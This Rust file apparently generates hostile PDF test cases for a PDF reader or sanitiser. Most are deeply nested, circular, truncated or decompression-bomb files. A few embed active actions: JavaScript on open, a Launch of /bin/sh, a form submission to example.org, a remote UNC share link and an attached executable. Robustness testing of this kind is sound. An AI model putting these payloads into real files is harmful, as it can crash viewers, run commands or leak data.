//! PDFs: nested, looped, blown up, and with things in them that act.

use super::Fate::{self, Either, Shown};
use super::bytes::{bomb, zlib};

type Case = (&'static str, Vec<u8>, Fate);

/// Returns every hostile PDF.
pub fn all() -> Vec<Case> {
    let deep = |open: &str, close: &str| open.repeat(10_000) + &close.repeat(10_000);
    vec![
        ("nested arrays.pdf", with_extra(&format!("/Deep {}", deep("[", "]"))), Either),
        ("nested dictionaries.pdf", with_extra(&format!("/Deep {}", deep("<</A ", ">>"))), Either),
        ("nested in the content.pdf", page(deep("[", "]").as_bytes(), LETTER), Either),
        ("nested states.pdf", page(deep("q ", "Q ").as_bytes(), LETTER), Either),
        ("nested page tree.pdf", page_tree(10_000), Either),
        ("form within itself.pdf", form_within_itself(), Either),
        ("page tree in a circle.pdf", page_tree_in_a_circle(), Either),
        ("object that is itself.pdf", object_that_is_itself(), Either),
        ("cross-reference in a circle.pdf", cross_reference_in_a_circle(), Either),
        ("no cross-reference.pdf", no_cross_reference(), Either),
        ("cut off.pdf", cut_off(), Either),
        ("one byte missing.pdf", one_byte_missing(), Either),
        ("only the mark.pdf", b"%PDF-1.7\n%%EOF\n".to_vec(), Fate::Refused("damaged")),
        ("huge page.pdf", page(HELLO, "0 0 14400 14400"), Either),
        ("monstrous page.pdf", page(HELLO, "0 0 1000000000 1000000000"), Either),
        ("page of no width.pdf", page(HELLO, "0 0 0 792"), Either),
        ("page that is no number.pdf", page(HELLO, "0 0 1e308 -1e308"), Either),
        ("content bomb.pdf", packed_page(&bomb(b' ', 1_024, true)), Either),
        ("content bomb twice packed.pdf", twice_packed_page(), Either),
        ("object stream bomb.pdf", object_stream_bomb(), Either),
        ("picture bomb.pdf", picture_bomb(), Either),
        ("pattern bomb.pdf", pattern_bomb(), Either),
        ("script.pdf", with_extra("/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), Shown),
        ("launch.pdf", with_extra("/OpenAction <</S /Launch /F (/bin/sh)>>"), Shown),
        ("sends.pdf", with_extra("/AA <</WC <</S /SubmitForm /F (https://example.org)>>>>"), Shown),
        (
            "remote.pdf",
            with_extra("/OpenAction <</S /GoToR /F (\\\\\\\\example.org\\\\share)>>"),
            Shown,
        ),
        (
            "attached.pdf",
            with_extra("/Names <</EmbeddedFiles <</Names [(a.exe) <</EF <<>>>>]>>>>"),
            Shown,
        ),
    ]
}

const LETTER: &str = "0 0 612 792";
const HELLO: &[u8] = b"BT /F 18 Tf 72 700 Td (Certificate of Completion) Tj ET";

/// Writes objects, numbered from 1, the first of them the catalog, with a sound cross-reference.
fn document(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut file = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (object, number) in objects.iter().zip(1..) {
        places.push(file.len());
        file.extend_from_slice(format!("{number} 0 obj\n").as_bytes());
        file.extend_from_slice(object);
        file.extend_from_slice(b"\nendobj\n");
    }
    let start = file.len();
    let all = objects.len() + 1;
    file.extend_from_slice(format!("xref\n0 {all}\n0000000000 65535 f \n").as_bytes());
    for place in places {
        file.extend_from_slice(format!("{place:010} 00000 n \n").as_bytes());
    }
    let trailer = format!("trailer\n<</Size {all} /Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n");
    file.extend_from_slice(trailer.as_bytes());
    file
}

fn stream(entries: &str, bytes: &[u8]) -> Vec<u8> {
    let mut object = format!("<<{entries} /Length {}>>\nstream\n", bytes.len()).into_bytes();
    object.extend_from_slice(bytes);
    object.extend_from_slice(b"\nendstream");
    object
}

/// Writes a document of one page from what differs.
fn one_page(catalog: &str, area: &str, resources: &str, content: Vec<u8>) -> Vec<Vec<u8>> {
    let font = "/Font <</F <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>";
    vec![
        format!("<</Type /Catalog /Pages 2 0 R {catalog}>>").into_bytes(),
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>".to_vec(),
        format!(
            "<</Type /Page /Parent 2 0 R /MediaBox [{area}] /Resources <<{font} {resources}>> /Contents 4 0 R>>"
        )
        .into_bytes(),
        content,
    ]
}

fn page(content: &[u8], area: &str) -> Vec<u8> {
    document(&one_page("", area, "", stream("", content)))
}

fn with_extra(catalog: &str) -> Vec<u8> {
    document(&one_page(catalog, LETTER, "", stream("", HELLO)))
}

fn packed_page(packed: &[u8]) -> Vec<u8> {
    document(&one_page("", LETTER, "", stream("/Filter /FlateDecode", packed)))
}

fn twice_packed_page() -> Vec<u8> {
    let packed = zlib(&bomb(b' ', 4_096, true));
    document(&one_page("", LETTER, "", stream("/Filter [/FlateDecode /FlateDecode]", &packed)))
}

fn page_tree(depth: usize) -> Vec<u8> {
    let mut objects = vec![b"<</Type /Catalog /Pages 2 0 R>>".to_vec()];
    for at in 0..depth {
        let (own, next) = (at + 2, at + 3);
        let parent = if at == 0 { String::new() } else { format!("/Parent {} 0 R", own - 1) };
        let node = format!("<</Type /Pages {parent} /Kids [{next} 0 R] /Count 1>>");
        objects.push(node.into_bytes());
    }
    let parent = depth + 1;
    let leaf = format!("<</Type /Page /Parent {parent} 0 R /MediaBox [{LETTER}]>>");
    objects.push(leaf.into_bytes());
    document(&objects)
}

fn page_tree_in_a_circle() -> Vec<u8> {
    document(&[
        b"<</Type /Catalog /Pages 2 0 R>>".to_vec(),
        b"<</Type /Pages /Kids [3 0 R 2 0 R] /Count 2>>".to_vec(),
        b"<</Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2>>".to_vec(),
    ])
}

fn form_within_itself() -> Vec<u8> {
    let mut objects = one_page("", LETTER, "/XObject <</X 5 0 R>>", stream("", b"/X Do /X Do"));
    let form =
        "/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources <</XObject <</X 5 0 R>>>>";
    objects.push(stream(form, b"/X Do /X Do"));
    document(&objects)
}

fn object_that_is_itself() -> Vec<u8> {
    document(&[
        b"<</Type /Catalog /Pages 2 0 R>>".to_vec(),
        b"2 0 R".to_vec(),
        b"4 0 R".to_vec(),
        b"3 0 R".to_vec(),
    ])
}

fn cross_reference_in_a_circle() -> Vec<u8> {
    let sound = page(HELLO, LETTER);
    let text = String::from_utf8(sound).expect("it was written as text");
    let start = text.rfind("startxref\n").expect("it has one") + "startxref\n".len();
    let place: String = text[start..].chars().take_while(char::is_ascii_digit).collect();
    text.replace("/Root 1 0 R", &format!("/Root 1 0 R /Prev {place}")).into_bytes()
}

fn no_cross_reference() -> Vec<u8> {
    let mut whole = page(HELLO, LETTER);
    let start = whole.windows(5).position(|it| it == b"xref\n").expect("it has one");
    whole.truncate(start);
    whole
}

fn cut_off() -> Vec<u8> {
    let whole = page(HELLO, LETTER);
    whole[..whole.len() / 2].to_vec()
}

fn one_byte_missing() -> Vec<u8> {
    let mut whole = page(HELLO, LETTER);
    whole.remove(40);
    whole
}

/// The catalog and the pages lie in a stream of objects that unpacks to a gigabyte of spaces.
fn object_stream_bomb() -> Vec<u8> {
    let mut file = b"%PDF-1.7\n".to_vec();
    let objects = file.len();
    let packed = bomb(b' ', 1_024, true);
    file.extend_from_slice(b"1 0 obj\n");
    let entries = "/Type /ObjStm /N 2 /First 1000000 /Filter /FlateDecode";
    file.extend_from_slice(&stream(entries, &packed));
    file.extend_from_slice(b"\nendobj\n");
    let start = file.len();
    let table: Vec<u8> = [
        [0, 0, 0, 0, 0, 0],
        [1, 0, 0, 0, u8::try_from(objects).expect("it stands at the beginning"), 0],
        [2, 0, 0, 0, 1, 0],
        [2, 0, 0, 0, 1, 1],
    ]
    .concat();
    file.extend_from_slice(b"4 0 obj\n");
    file.extend_from_slice(&stream("/Type /XRef /Size 4 /W [1 4 1] /Root 2 0 R", &table));
    file.extend_from_slice(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").as_bytes());
    file
}

fn picture_bomb() -> Vec<u8> {
    let content = stream("", b"q 612 0 0 792 0 0 cm /X Do Q");
    let mut objects = one_page("", LETTER, "/XObject <</X 5 0 R>>", content);
    let picture = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 \
        /ColorSpace /DeviceRGB /Filter /FlateDecode";
    objects.push(stream(picture, &bomb(0, 2_048, true)));
    document(&objects)
}

/// Tiles a hundred-thousandth of a point wide.
fn pattern_bomb() -> Vec<u8> {
    let content = stream("", b"/Pattern cs /P scn 0 0 612 792 re f");
    let mut objects = one_page("", LETTER, "/Pattern <</P 5 0 R>>", content);
    let tile = "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] \
        /XStep 0.00001 /YStep 0.00001 /Resources <<>>";
    objects.push(stream(tile, b"0 0 1 1 re f"));
    document(&objects)
}
